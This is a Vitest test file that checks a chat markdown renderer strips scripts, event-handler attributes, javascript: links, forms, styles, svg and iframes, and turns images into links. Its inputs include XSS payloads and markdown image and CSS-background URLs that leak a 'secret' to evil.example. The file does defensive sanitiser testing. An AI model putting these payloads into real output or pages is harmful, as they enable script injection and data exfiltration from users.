// @vitest-environment jsdom
import { describe, expect, it } from 'vitest';
import { renderMarkdown } from '../../../../src/lib/components/chat/markdown';

function dom(html: string): HTMLElement {
	const root = document.createElement('div');
	root.innerHTML = html;
	return root;
}

describe('renderMarkdown', () => {
	it('renders Markdown: emphasis, lists and fenced code', () => {
		const root = dom(
			renderMarkdown('Some **bold** text\n\n- one\n- two\n\n```ts\nconst a = 1;\n```')
		);
		expect(root.querySelector('strong')?.textContent).toBe('bold');
		expect(root.querySelectorAll('li')).toHaveLength(2);
		expect(root.querySelector('pre code')?.textContent).toBe('const a = 1;\n');
	});

	it('removes scripts the model wrote', () => {
		const html = renderMarkdown('Hello <script>alert(1)</script> world');
		expect(dom(html).querySelector('script')).toBeNull();
		expect(html).not.toContain('alert(1)');
	});

	it('removes event handler attributes and javascript: links', () => {
		const html = renderMarkdown(
			'<div onmouseover="steal()">hover</div> <img src=x onerror="steal()">\n\n' +
				'[click](javascript:steal()) <a href="javascript:steal()">raw</a>'
		);
		const root = dom(html);
		expect(html).not.toContain('steal');
		expect(root.querySelector('[onmouseover]')).toBeNull();
		expect(root.querySelector('img')).toBeNull();
		expect(root.textContent).toContain('hover');
		expect(root.textContent).toContain('raw');
	});

	it('opens links in a new tab with rel noopener', () => {
		const link = dom(renderMarkdown('See [the docs](https://example.com/a).')).querySelector('a');
		expect(link?.getAttribute('href')).toBe('https://example.com/a');
		expect(link?.getAttribute('target')).toBe('_blank');
		expect(link?.getAttribute('rel')).toContain('noopener');
	});

	it('shows an image as a link instead of loading it', () => {
		const root = dom(renderMarkdown('![diagram](https://evil.example/leak?d=secret)'));
		expect(root.querySelector('img')).toBeNull();
		const link = root.querySelector('a');
		expect(link?.textContent).toBe('diagram');
		expect(link?.getAttribute('href')).toBe('https://evil.example/leak?d=secret');
	});

	it('drops forms and styles', () => {
		const root = dom(
			renderMarkdown(
				'<form action="https://x"><input name="a"></form><style>*{display:none}</style>ok'
			)
		);
		expect(root.querySelector('form, input, style')).toBeNull();
		expect(root.textContent).toContain('ok');
	});

	it('keeps no style, class or id: nothing can be positioned over the IDE or load a URL', () => {
		const html = renderMarkdown(
			'<div style="position:fixed;inset:0;z-index:99999" class="ide-overlay" id="app">cover</div>\n\n' +
				'<p style="background-image:url(https://evil.example/leak?k=1)">bg</p>'
		);
		const root = dom(html);
		expect(root.querySelector('[style], [class], [id], div')).toBeNull();
		expect(html).not.toContain('evil.example');
		expect(root.textContent).toContain('cover');
	});

	it('keeps links to http(s) and mail only', () => {
		const root = dom(
			renderMarkdown(
				'[a](data:text/html,x) [b](blob:https://x/y) [c](/project/p1) [d](mailto:a@b.c) [e](http://x.test/)'
			)
		);
		const hrefs = [...root.querySelectorAll('a')].map((a) => a.getAttribute('href'));
		expect(hrefs.filter(Boolean)).toEqual(['mailto:a@b.c', 'http://x.test/']);
		for (const a of root.querySelectorAll('a[href]')) {
			expect(a.getAttribute('rel')).toBe('noopener noreferrer');
		}
	});

	it('drops raw svg, iframes and task-list inputs', () => {
		const root = dom(
			renderMarkdown(
				'<svg><image href="https://evil.example/x"/></svg><iframe src="https://evil.example"></iframe>\n\n- [x] done\n- [ ] todo'
			)
		);
		expect(root.querySelector('svg, image, iframe, input')).toBeNull();
		expect(root.textContent).toContain('☑ done');
		expect(root.textContent).toContain('☐ todo');
	});
});
